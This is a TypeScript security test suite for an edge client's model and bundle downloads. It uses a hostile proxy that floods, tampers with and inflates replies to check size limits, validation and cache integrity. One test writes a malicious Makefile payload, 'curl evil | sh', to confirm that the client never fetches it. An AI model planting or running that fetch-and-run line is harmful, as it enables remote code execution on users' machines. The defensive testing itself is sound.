// A hostile cloud (here a man-in-the-middle in front of a real node) that declares a small size
// and sends far more: the edge refuses with a typed error and stops reading at the limit, so the
// flood it was sent never arrives whole. Sizes the manifest or a bundle listing declares are
// checked before anything is downloaded, and a bundle listing that is not one is a typed error.
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { createServer as createHttpServer } from 'node:http';
import type { IncomingMessage, ServerResponse } from 'node:http';
import { createServer as createHttpsServer } from 'node:https';
import type { AddressInfo } from 'node:net';
import { tmpdir, totalmem } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { CloudRest, EdgeError, downloadBundle, downloadEdgePart } from '../../edge-client/index.ts';
import { readBundle } from '../../emulator/index.ts';
import { EDGE_WEIGHTS_FILE } from '../../protocol/index.ts';
import { createTenantKey, startTestNode } from '../cloud-node/helpers.ts';
import type { TestNode } from '../cloud-node/helpers.ts';

/** What the proxy streams instead of the cloud's reply: `prefix`, then filler up to `total` bytes. */
interface Flood {
  total: number;
  prefix?: string;
  /** Sent as the content-length; absent, the reply is chunked. */
  contentLength?: number;
  contentType?: string;
}

/** The reply the cloud gave (path with query, body), or what to send instead. */
type Rewrite = (path: string, body: Buffer) => Buffer | Flood | undefined;

interface HostileProxy {
  url: string;
  /** Every path requested, in order. */
  requests: string[];
  /** Bytes of each flood the edge's socket took before it closed, one promise per flood, settled when it ends. */
  floods: Promise<number>[];
  close(): Promise<void>;
}

const CHUNK = Buffer.alloc(64 * 1024, 0x20);

function flood(res: ServerResponse, f: Flood): Promise<number> {
  return new Promise((resolve) => {
    let written = 0;
    let sent = 0;
    let done = false;
    const finish = (): void => {
      if (!done) {
        done = true;
        resolve(written);
      }
    };
    res.on('error', finish);
    res.on('close', finish);
    res.writeHead(200, { 'content-type': f.contentType ?? 'application/octet-stream', ...(f.contentLength === undefined ? {} : { 'content-length': String(f.contentLength) }) });
    const pump = (): void => {
      while (sent < f.total && !res.destroyed) {
        const chunk = sent === 0 && f.prefix !== undefined ? Buffer.from(f.prefix) : CHUNK.subarray(0, Math.min(CHUNK.length, f.total - sent));
        sent += chunk.length;
        // Counted once the socket has taken it: bytes the edge could have read.
        const ok = res.write(chunk, (err) => {
          if (!err) written += chunk.length;
        });
        if (!ok) {
          res.once('drain', pump);
          return;
        }
      }
      if (sent >= f.total) res.end();
    };
    pump();
  });
}

/** A proxy in front of `upstream` whose replies `rewrite` may change; https with `tls`. */
async function startHostileProxy(upstream: string, rewrite: Rewrite, tls?: { key: string; cert: string }): Promise<HostileProxy> {
  const requests: string[] = [];
  const floods: Promise<number>[] = [];
  const handle = (req: IncomingMessage, res: ServerResponse): void => {
    const path = req.url ?? '/';
    requests.push(path);
    void (async () => {
      const up = await fetch(`${upstream}${path}`, { method: req.method, headers: { authorization: req.headers.authorization ?? '' } });
      const body = Buffer.from(await up.arrayBuffer());
      const out = rewrite(path, body) ?? body;
      if (Buffer.isBuffer(out)) {
        res.writeHead(up.status, { 'content-type': up.headers.get('content-type') ?? 'application/octet-stream' });
        res.end(out);
      } else {
        floods.push(flood(res, out));
      }
    })().catch(() => res.destroy());
  };
  const server = tls === undefined ? createHttpServer(handle) : createHttpsServer(tls, handle);
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    url: `${tls === undefined ? 'http' : 'https'}://127.0.0.1:${port}`,
    requests,
    floods,
    async close() {
      server.closeAllConnections();
      await new Promise<void>((resolve) => server.close(() => resolve()));
    },
  };
}

const MODEL = 'stories260K';
const CUT = { bottom: 1, top: 1 };
const FLOOD_BYTES = 128 * 1024 * 1024;
/**
 * Socket buffers take bytes the edge never reads (4-8 MiB on loopback here, at most a receive and a
 * send buffer, tens of MiB): "stopped early" is under half the flood, which is all of it without a limit.
 */
const EARLY = FLOOD_BYTES / 2;

const isEdgeManifest = (path: string): boolean => path.startsWith(`/v1/models/${MODEL}/edge?`);
const isEdgeFile = (path: string, name: string): boolean => path.startsWith(`/v1/models/${MODEL}/edge/files/${name}?`);
const isBundleListing = (path: string): boolean => path.startsWith(`/v1/models/${MODEL}/emulators?`);

function rejectsWith(code: string, message: RegExp): (err: unknown) => boolean {
  return (err) => {
    assert.ok(err instanceof EdgeError, String(err));
    assert.equal(err.code, code, err.message);
    assert.match(err.message, message);
    return true;
  };
}

describe('a hostile cloud that sends more than it declares', () => {
  let node: TestNode;
  let key: string;
  let work: string;
  let proxy: HostileProxy | undefined;
  const through = async (rewrite: Rewrite, tls?: { key: string; cert: string }): Promise<HostileProxy> => {
    await proxy?.close();
    proxy = await startHostileProxy(node.url, rewrite, tls);
    return proxy;
  };

  before(async () => {
    node = await startTestNode();
    key = await createTenantKey(node, 'owner');
    work = await mkdtemp(join(tmpdir(), 'tandem-hostile-'));
  });
  after(async () => {
    await proxy?.close();
    await node.close();
    await rm(work, { recursive: true, force: true });
  });

  it('stops reading an edge file at the bytes its manifest declares (TANDEM_EDGE_DOWNLOAD_CORRUPT)', async () => {
    const p = await through((path) => (isEdgeFile(path, EDGE_WEIGHTS_FILE) ? { total: FLOOD_BYTES } : undefined));
    await assert.rejects(downloadEdgePart(new CloudRest(p.url, key), MODEL, CUT, join(work, 'cache-1')),
      rejectsWith('TANDEM_EDGE_DOWNLOAD_CORRUPT', new RegExp(`got more than \\d+ bytes .*the manifest says \\d+ .*file ${EDGE_WEIGHTS_FILE}`)));
    assert.equal(p.floods.length, 1);
    const written = await p.floods[0];
    assert.ok(written < EARLY, `the edge read on: ${written} of ${FLOOD_BYTES} bytes went out`);
  });

  it('refuses an edge file whose content-length is over the manifest\'s bytes before reading it', async () => {
    const p = await through((path) => (isEdgeFile(path, EDGE_WEIGHTS_FILE) ? { total: FLOOD_BYTES, contentLength: FLOOD_BYTES } : undefined));
    await assert.rejects(downloadEdgePart(new CloudRest(p.url, key), MODEL, CUT, join(work, 'cache-2')),
      rejectsWith('TANDEM_EDGE_DOWNLOAD_CORRUPT', new RegExp(`the reply declares ${FLOOD_BYTES} bytes, the manifest says \\d+ .*file ${EDGE_WEIGHTS_FILE}`)));
    const written = await p.floods[0];
    assert.ok(written < EARLY, `the edge read on: ${written} of ${FLOOD_BYTES} bytes went out`);
  });

  it('checks the manifest\'s bytes (a non-negative integer, a file within a buffer, all within memory) before any file is requested', async () => {
    const pads = Array.from({ length: Math.floor(totalmem() / 2 ** 30) + 1 }, (_, i) => ({ name: `pad-${i}`, bytes: 2 ** 30, sha256: '0'.repeat(64) }));
    const cases: [string, (files: { name: string; bytes: unknown }[]) => unknown[], RegExp][] = [
      ['negative', (files) => files.map((f, i) => (i === 0 ? { ...f, bytes: -1 } : f)), /files\[0\]\.bytes must be an integer in \[0, \d+\], got -1/],
      ['unsafe', (files) => files.map((f, i) => (i === 0 ? { ...f, bytes: 2 ** 53 } : f)), /files\[0\]\.bytes must be an integer in \[0, \d+\], got 9007199254740992/],
      ['a string', (files) => files.map((f, i) => (i === 0 ? { ...f, bytes: '100' } : f)), /files\[0\]\.bytes must be an integer/],
      // Each file within a buffer's length, but more than this machine holds together.
      ['over memory', (files) => [...files, ...pads], /the files declare \d+ bytes together, over the limit of \d+/],
    ];
    for (const [label, change, message] of cases) {
      const p = await through((path, body) => {
        if (!isEdgeManifest(path)) return undefined;
        const manifest = JSON.parse(body.toString()) as { files: { name: string; bytes: unknown }[] };
        return Buffer.from(JSON.stringify({ ...manifest, files: change(manifest.files) }));
      });
      await assert.rejects(downloadEdgePart(new CloudRest(p.url, key), MODEL, CUT, join(work, `cache-${label}`)), rejectsWith('TANDEM_EDGE_RESPONSE_INVALID', message), label);
      assert.deepEqual(p.requests.filter((r) => r.includes('/files/')), [], `${label}: no file was requested`);
    }
  });

  it('stops reading a JSON reply at its limit (TANDEM_EDGE_RESPONSE_INVALID), with and without a content-length', async () => {
    for (const contentLength of [undefined, FLOOD_BYTES]) {
      const p = await through((path) => (path === '/v1/models' ? { total: FLOOD_BYTES, prefix: '{"models":[', contentLength, contentType: 'application/json' } : undefined));
      await assert.rejects(new CloudRest(p.url, key).models(), rejectsWith('TANDEM_EDGE_RESPONSE_INVALID', /over the limit of 4194304 for JSON/));
      const written = await p.floods[0];
      assert.ok(written < EARLY, `the edge read on: ${written} of ${FLOOD_BYTES} bytes went out`);
    }
  });

  it('stops reading over https with a private CA too', async () => {
    execFileSync('openssl', ['req', '-x509', '-newkey', 'ec', '-pkeyopt', 'ec_paramgen_curve:prime256v1', '-nodes', '-keyout', 'proxy.key', '-out', 'proxy.pem',
      '-days', '1', '-subj', '/CN=127.0.0.1', '-addext', 'subjectAltName=IP:127.0.0.1'], { cwd: work, stdio: 'pipe' });
    const tls = { key: await readFile(join(work, 'proxy.key'), 'utf8'), cert: await readFile(join(work, 'proxy.pem'), 'utf8') };
    const p = await through((path) => (path === '/v1/models' ? { total: FLOOD_BYTES, prefix: '{"models":[', contentType: 'application/json' } : undefined), tls);
    await assert.rejects(new CloudRest(p.url, key, 30_000, tls.cert).models(), rejectsWith('TANDEM_EDGE_RESPONSE_INVALID', /over the limit of 4194304 for JSON/));
    const written = await p.floods[0];
    assert.ok(written < EARLY, `the edge read on: ${written} of ${FLOOD_BYTES} bytes went out`);
  });

  it('refuses a bundle listing that is not JSON, null, without a files array, or with a bad size, before any file is requested', async () => {
    const cases: [string, (listing: Record<string, unknown>) => string, RegExp][] = [
      ['not JSON', () => '<html>not json</html>', /the body is not JSON/],
      ['null', () => 'null', /expected \{model, contentHash, cut, manifest, files: \[\.\.\.\]\}/],
      ['files not an array', (l) => JSON.stringify({ ...l, files: { 'manifest.json': 1 } }), /files must be a list/],
      ['a file without bytes', (l) => JSON.stringify({ ...l, files: (l.files as object[]).map((f) => ({ ...f, bytes: undefined })) }), /files\[0\]\.bytes must be an integer/],
      ['negative bytes', (l) => JSON.stringify({ ...l, files: (l.files as object[]).map((f, i) => (i === 1 ? { ...f, bytes: -5 } : f)) }), /files\[1\]\.bytes must be an integer in \[0, \d+\], got -5/],
      ['a file twice', (l) => JSON.stringify({ ...l, files: [...(l.files as object[]), (l.files as object[])[0]] }), /is listed twice/],
      ['thousands of empty files', (l) => JSON.stringify({ ...l, files: Array.from({ length: 5000 }, (_, i) => ({ name: `f${i}`, bytes: 0, sha256: '0' })) }), /names 5000 files, over the limit of 64/],
    ];
    for (const [label, change, message] of cases) {
      const p = await through((path, body) => (isBundleListing(path) ? Buffer.from(change(JSON.parse(body.toString()) as Record<string, unknown>)) : undefined));
      await assert.rejects(downloadBundle({ cloudUrl: p.url, key, modelId: MODEL, keep: 2, bottom: 1, top: 1, outDir: join(work, `bundle-${label}`) }),
        rejectsWith('TANDEM_EDGE_RESPONSE_INVALID', message), label);
      assert.deepEqual(p.requests.filter((r) => r.includes('/files/')), [], `${label}: no file was requested`);
    }
  });

  it('a bundle listing naming a file the bundle does not, or a file whose bytes are not the listed ones, leaves the output folder as it was (found by review)', async () => {
    const out = join(work, 'bundle-kept');
    const good = await downloadBundle({ cloudUrl: node.url, key, modelId: MODEL, keep: 2, bottom: 1, top: 1, outDir: out });
    await writeFile(join(out, 'Makefile'), 'all:\n\techo mine\n');
    const before = await readFile(join(out, 'emulator.safetensors'));
    const payload = Buffer.from('all:\n\tcurl evil | sh\n');
    const extra = await through((path, body) => {
      if (isBundleListing(path)) {
        const l = JSON.parse(body.toString()) as { files: object[] };
        return Buffer.from(JSON.stringify({ ...l, files: [...l.files, { name: 'Makefile', bytes: payload.length, sha256: createHash('sha256').update(payload).digest('hex') }] }));
      }
      return path.includes('/files/Makefile?') ? payload : undefined;
    });
    await assert.rejects(downloadBundle({ cloudUrl: extra.url, key, modelId: MODEL, keep: 2, bottom: 1, top: 1, outDir: out }),
      rejectsWith('TANDEM_EDGE_RESPONSE_INVALID', /the listing names .*Makefile.*; the bundle's manifest/));
    assert.ok(!extra.requests.some((r) => r.includes('/files/Makefile')), 'the unlisted file is never fetched');
    const flipped = await through((path, body) => {
      if (!path.startsWith(`/v1/models/${MODEL}/emulators/files/emulator.safetensors?`)) return undefined;
      const bad = Buffer.from(body);
      bad[bad.length - 1] ^= 1;
      return bad;
    });
    await assert.rejects(downloadBundle({ cloudUrl: flipped.url, key, modelId: MODEL, keep: 2, bottom: 1, top: 1, outDir: out }),
      rejectsWith('TANDEM_EDGE_DOWNLOAD_CORRUPT', /sha256 [0-9a-f]+ differs from the manifest's/));
    assert.equal(await readFile(join(out, 'Makefile'), 'utf8'), 'all:\n\techo mine\n', "the user's file is untouched");
    assert.deepEqual(await readFile(join(out, 'emulator.safetensors')), before, 'the good bundle is untouched');
    assert.equal((await readBundle(out)).manifest.checksum, good.manifest.checksum);
  });

  it('an edge file is given time for its bytes: one that comes steadily past the timeout arrives, a trickle still ends (found by review)', async () => {
    const bytes = 256 * 1024;
    // 64 KiB every 400 ms (1.6 s in all), or 1 byte every 100 ms.
    const serve = (chunk: number, everyMs: number) => createHttpServer((_req, res) => {
      res.writeHead(200, { 'content-type': 'application/octet-stream', 'content-length': String(bytes) });
      let sent = 0;
      const timer = setInterval(() => {
        const n = Math.min(chunk, bytes - sent);
        res.write(Buffer.alloc(n, 1));
        sent += n;
        if (sent >= bytes) {
          clearInterval(timer);
          res.end();
        }
      }, everyMs);
      res.on('close', () => clearInterval(timer));
    });
    const file = { name: EDGE_WEIGHTS_FILE, bytes, sha256: createHash('sha256').update(Buffer.alloc(bytes, 1)).digest('hex') };
    for (const [label, chunk, everyMs, arrives] of [['steady', 64 * 1024, 400, true], ['trickle', 1, 100, false]] as const) {
      const server = serve(chunk, everyMs);
      await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
      try {
        // A timeout of 1 s, and 4 s for 256 KiB at 64 KiB/s.
        const rest = new CloudRest(`http://127.0.0.1:${(server.address() as AddressInfo).port}`, key, 1000);
        const got = rest.file(MODEL, CUT, file);
        if (arrives) assert.equal((await got).length, bytes, label);
        else await assert.rejects(got, (e: unknown) => e instanceof EdgeError && /timeout/i.test(e.message), label);
      } finally {
        server.closeAllConnections();
        await new Promise<void>((resolve) => server.close(() => resolve()));
      }
    }
  });

  it('a cached edge part holding a file the manifest does not list is not taken from the cache (found by review)', async () => {
    const cache = join(work, 'cache-unlisted');
    const first = await downloadEdgePart(new CloudRest(node.url, key), MODEL, CUT, cache);
    assert.equal(first.cached, false);
    assert.ok(first.manifest.files.some((f) => f.name === 'tokenizer_config.json'));
    // A cloud of the same content hash that lists no tokenizer_config.json: the cached one (another cloud's, as far as this one knows) would be read.
    const p = await through((path, body) => {
      if (!isEdgeManifest(path)) return undefined;
      const m = JSON.parse(body.toString()) as { files: { name: string }[] };
      return Buffer.from(JSON.stringify({ ...m, files: m.files.filter((f) => f.name !== 'tokenizer_config.json') }));
    });
    const second = await downloadEdgePart(new CloudRest(p.url, key), MODEL, CUT, cache);
    assert.equal(second.cached, false, 'downloaded again');
    await assert.rejects(readFile(join(second.dir, 'tokenizer_config.json')), { code: 'ENOENT' });
    assert.equal((await downloadEdgePart(new CloudRest(p.url, key), MODEL, CUT, cache)).cached, true, 'then cached as this cloud lists it');
  });

  it('stops reading a bundle file at the bytes its listing declares', async () => {
    const p = await through((path) => (path.startsWith(`/v1/models/${MODEL}/emulators/files/emulator.safetensors?`) ? { total: FLOOD_BYTES } : undefined));
    await assert.rejects(downloadBundle({ cloudUrl: p.url, key, modelId: MODEL, keep: 2, bottom: 1, top: 1, outDir: join(work, 'bundle-flood') }),
      rejectsWith('TANDEM_EDGE_DOWNLOAD_CORRUPT', /got more than \d+ bytes .*file emulator\.safetensors/));
    const written = await p.floods[0];
    assert.ok(written < EARLY, `the edge read on: ${written} of ${FLOOD_BYTES} bytes went out`);
  });
});
